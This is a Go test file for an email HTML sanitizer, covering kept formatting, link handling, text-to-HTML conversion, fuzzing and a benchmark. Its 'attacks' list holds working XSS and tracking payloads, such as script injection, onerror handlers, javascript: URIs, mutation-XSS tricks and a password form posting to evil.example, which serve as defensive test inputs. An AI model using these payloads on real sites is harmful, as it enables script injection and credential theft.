package page

import (
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/replywell/replywell/shared/email/htmltext"
)

func TestSanitizeKeepsWhatPeopleWrite(t *testing.T) {
	for _, kept := range []string{
		`<p>Hello <b>bold</b> <em>and</em> <u>so</u> <s>on</s></p>`,
		`<ul><li>one</li><li>two<ol start="3"><li>three</li></ol></li></ul>`,
		`<table><caption>c</caption><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td align="right">1</td>` +
			`<td>2</td></tr></tbody></table>`,
		`<blockquote>said<br/>before</blockquote><pre>code  here</pre><hr/>`,
		`<p dir="rtl" lang="ar">مرحبا</p>`,
		`<img src="cid:part1.abc@example.net" alt="a chart" width="300"/>`,
		`<img src="data:image/png;base64,iVBORw0KGgo="/>`,
		`<p style="text-align: center">x</p>`,
	} {
		if got := Sanitize(kept); strings.ReplaceAll(got, "<br>", "<br/>") != kept {
			t.Errorf("changed:\n%s\n%s", kept, got)
		}
	}
	got := Sanitize(
		`<a href="https://example.com/a?b=1&amp;c=2" title="t" id="i">here</a> <a ` +
			`href="mailto:a@example.com">mail</a> <a href="tel:+49301234">call</a>`)
	for _, want := range []string{`href="https://example.com/a?b=1&amp;c=2"`, `href="mailto:a@example.com"`,
		`href="tel:+49301234"`, "noopener", "noreferrer", "nofollow"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s lacks %s", got, want)
		}
	}
}

// attacks are written the ways that have got past filters elsewhere.
var attacks = []string{
	`<script>alert(1)</script>x`, `<ScRiPt src=//evil.example></sCrIpT>`, `<img src=x onerror=alert(1)>`,
	`<p onclick="alert(1)">x</p>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<img src="https://tracker.example/p.gif?u=1" width=1 height=1>`,
	`<img srcset="https://tracker.example/p.gif 2x" src="cid:a">`,
	`<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>`,
	`<body background="https://tracker.example/x">x`,
	`<div style="background:url(https://tracker.example/p.gif)">x</div>`,
	`<p style="text-align:center;background-image:url('//t.example')">x</p>`,
	`<style>@import url(https://tracker.example/x.css)</style>x`,
	`<link rel=stylesheet href=https://tracker.example/x.css>`,
	`<form action="https://evil.example"><input name=password><button>Go</button></form>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src=x>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`, `<svg><script>alert(1)</script></svg>`,
	`<svg><image href="https://tracker.example/p.png"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<video poster="https://tracker.example/p.png"><source src="https://tracker.example/v.mp4"></video>`,
	`<audio src=https://tracker.example/a></audio>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">`,
	`<p style="position:fixed;top:0;width:100%">Your session has ended</p>`,
	`<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext>x`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `</div></td></tr></table></body></html><p>outside`,
	`<a href="https://x"><a href="javascript:x">`,
	"<a\x00 href=java\x00script:x>x</a>", `<div><p><ul><li>never closed`,
	`<input type=image src=https://tracker.example/x formaction=x>`,
}

func TestSanitizeStopsAttacks(t *testing.T) {
	for _, a := range attacks {
		mustBeSafe(t, a, Sanitize(a))
	}
}

// mustBeSafe reads the result as a browser does, within an element of ours, and
// looks at what is really there.
func mustBeSafe(t *testing.T, in, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(`<!DOCTYPE html><body><div id="ours">` + out + `</div><p id="after">`))
	if err != nil {
		t.Fatalf("%q\ngave what cannot be parsed: %v", in, err)
	}
	bad := func(n *html.Node, why string) { t.Errorf("%q\ngave %q:\n<%s> %s", in, out, n.Data, why) }
	var walk func(n *html.Node, inside bool)
	walk = func(n *html.Node, inside bool) {
		if n.Type == html.ElementNode {
			switch id := htmltext.Attr(n, "id"); {
			case id == "after" && inside:
				bad(n, "an element was left open")
			case id == "ours":
				inside = true
			case n.DataAtom != atom.Html && n.DataAtom != atom.Head && n.DataAtom != atom.Body && !inside &&
				id != "after":
				bad(n, "got out of the element it was put into")
			}
			switch n.DataAtom {
			case atom.Script, atom.Style, atom.Form, atom.Input, atom.Button, atom.Textarea, atom.Select, atom.Iframe,
				atom.Object, atom.Embed,
				atom.Link, atom.Meta, atom.Base, atom.Svg, atom.Math, atom.Video, atom.Audio, atom.Source,
				atom.Template, atom.Noscript:
				bad(n, "is not allowed")
			}
			for _, a := range n.Attr {
				low := strings.ToLower(a.Val)
				switch {
				case a.Key == "id" && (a.Val == "ours" || a.Val == "after"):
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "background", a.Key == "poster",
					a.Key == "action", a.Key == "id", a.Key == "class", a.Key == "name":
					bad(n, "has "+a.Key)
				case a.Key == "src" && !strings.HasPrefix(a.Val, "cid:") && !strings.HasPrefix(a.Val, "data:image/"),
					a.Key == "src" && strings.Contains(low, "svg"):
					bad(n, "shows "+a.Val)
				case a.Key == "href" && !strings.HasPrefix(low, "http://") && !strings.HasPrefix(low, "https://") &&
					!strings.HasPrefix(low, "mailto:") && !strings.HasPrefix(low, "tel:"):
					bad(n, "leads to "+a.Val)
				case a.Key == "style" && (strings.Contains(low, "url") || strings.Contains(low, "position") ||
					strings.Contains(low, "expression")):
					bad(n, "has the style "+a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inside)
		}
	}
	walk(doc, false)
}

func TestSanitizeKeepsTheTextOfDeepHTML(t *testing.T) {
	deep := strings.Repeat("<div><b>", 100_000) + "the word" + strings.Repeat("</b></div>", 100_000)
	start := time.Now()
	got := Sanitize(deep)
	if !strings.Contains(got, "the word") {
		t.Errorf("the text is gone: %d characters", len(got))
	}
	mustBeSafe(t, "deep", got)
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %v", d)
	}
}

func TestSanitizeNamesImagesThatAreNotShown(t *testing.T) {
	got := Sanitize(
		`<p>See <img src="https://cdn.example/x.png" alt="the export dialogue"><img src="https://t.example/1.gif" ` +
			`alt=""></p>`)
	if want := `<p>See [image: the export dialogue]</p>`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	big := `<img src="data:image/png;base64,` + strings.Repeat("A", maxDataImage+1) + `">`
	if got := Sanitize(big); strings.Contains(got, "data:") {
		t.Error("a data image above the bound was kept")
	}
}

func TestTextToHTML(t *testing.T) {
	for in, want := range map[string]string{
		"":              "",
		"a\r\nb\n\n\nc": `<p style="margin:0 0 1em">a<br>|b</p>|<p style="margin:0 0 1em">c</p>`,
		"<b>&\"":        `<p style="margin:0 0 1em">&lt;b&gt;&amp;&#34;</p>`,
		"x\n> y\n> > z\nw": `<p style="margin:0 0 1em">x</p>|<blockquote style="Q">|<p style="margin:0 0 ` +
			`1em">y</p>|<blockquote style="Q">|<p style="margin:0 0 1em">z</p>|</blockquote>|</blockquote>|<p ` +
			`style="margin:0 0 1em">w</p>`,
		"(see https://a.example/b)": `<p style="margin:0 0 1em">(see <a href="https://a.example/b" rel="noopener ` +
			`noreferrer nofollow">https://a.example/b</a>)</p>`,
		"1  2\n  3": `<p style="margin:0 0 1em">1&nbsp; 2<br>|&nbsp;&nbsp;3</p>`,
	} {
		got := strings.NewReplacer("\n", "|", quoteStyle, "Q").Replace(TextToHTML(in))
		if in == "1  2\n  3" {
			got = strings.ReplaceAll(got, "\u00a0", "&nbsp;")
		}
		if got != want {
			t.Errorf("%q:\ngot  %s\nwant %s", in, got, want)
		}
	}
}

func TestLinksInText(t *testing.T) {
	for word, want := range map[string]string{
		"https://example.com/a_(b).":      "https://example.com/a_(b)",
		"(https://example.com/)":          "https://example.com/",
		"<https://example.com/x>,":        "https://example.com/x",
		"HTTP://EXAMPLE.COM":              "HTTP://EXAMPLE.COM",
		"www.example.com/x?y=z#f!":        "https://www.example.com/x?y=z#f",
		"erika@example.net,":              "mailto:erika@example.net",
		"<erika.m+x@sub.example.net>":     "mailto:erika.m+x@sub.example.net",
		"mailto:a@example.com":            "mailto:a@example.com",
		"javascript:alert(1)":             "",
		"xhttps://example.com":            "",
		"https://":                        "",
		"http://user@":                    "",
		"a@b":                             "",
		"@example.com":                    "",
		"a@b@c.example":                   "",
		"e.g.":                            "",
		"www.":                            "",
		"https://exa%zzmple.com":          "",
		"https://example.com/\"onclick=x": "https://example.com/",
	} {
		if _, _, got := findLink(word); got != want {
			t.Errorf("%s: got %q, want %q", word, got, want)
		}
	}
}

// What is dropped before the gate is what the gate would have dropped.
func TestStylesAreDroppedAsTheGateDropsThem(t *testing.T) {
	for _, style := range []string{
		"", ";", "margin:0", "margin:0 0 8px 0;font-family:Arial", "TEXT-ALIGN: center",
		"color:red; text-align :right", "text-align:center;text-align:nothing", "font-weight:bold !important",
		"/* text-align:left */", "/**/text-align:left", "text\\-align:left", "color:'text-align:left'",
		"line-height:1.2", "height:auto", "max-width:100%", "background:url(a;text-align:left)",
		"font-style:italic}p{color:red", "text-align", ":left", "text-decoration:\nunderline",
		"\ttext-align\n:\nleft", "color:red;;font-weight:700;", "margin:0;-text-align:left",
		"text-align:left:right", "<!-- text-align:left -->", "color:#fff;text-align:left",
	} {
		as := `style="` + html.EscapeString(style) + `"`
		before := `<b ` + as + `>x</b><img src="cid:a" ` + as + `/><span ` + as + `>y</span>`
		if got, want := Sanitize(before), gate.Sanitize(before); got != want && !mayStay(style) {
			t.Errorf("%q\n  is %s\nwas %s", style, got, want)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Add(`<table><tr><td><p>x</table><b><i>y</b></i>`)
	f.Fuzz(func(t *testing.T, s string) {
		mustBeSafe(t, s, Sanitize(s))
	})
}

func FuzzTextToHTML(f *testing.F) {
	f.Add("> a\n>> b https://example.com/<x> mailto:a@b.example\n  \"q\" 'r' www.a.b")
	f.Add("https://a.example/\"><script>alert(1)</script>")
	f.Fuzz(func(t *testing.T, s string) {
		out := TextToHTML(s)
		mustBeSafe(t, s, out)
		z := html.NewTokenizer(strings.NewReader(out))
		var seen strings.Builder
		for z.Next() != html.ErrorToken {
			if tok := z.Token(); tok.Type == html.TextToken {
				seen.WriteString(tok.Data)
			}
		}
		squash := func(s string) string {
			return strings.Join(strings.Fields(strings.ReplaceAll(s, ">", "")), "")
		}
		if got, want := squash(seen.String()), squash(cleanText(s)); got != want {
			t.Errorf("the text changed: got %q, want %q", got, want)
		}
	})
}

func BenchmarkSanitize(b *testing.B) {
	page := strings.Repeat(
		`<div class="x"><p style="color:red">Some text with <b>bold</b> and <a href="https://example.com">a link</a>`+
			`</p></div>`, 180)
	b.SetBytes(int64(len(page)))
	b.ReportAllocs()
	for b.Loop() {
		_ = Sanitize(page)
	}
}
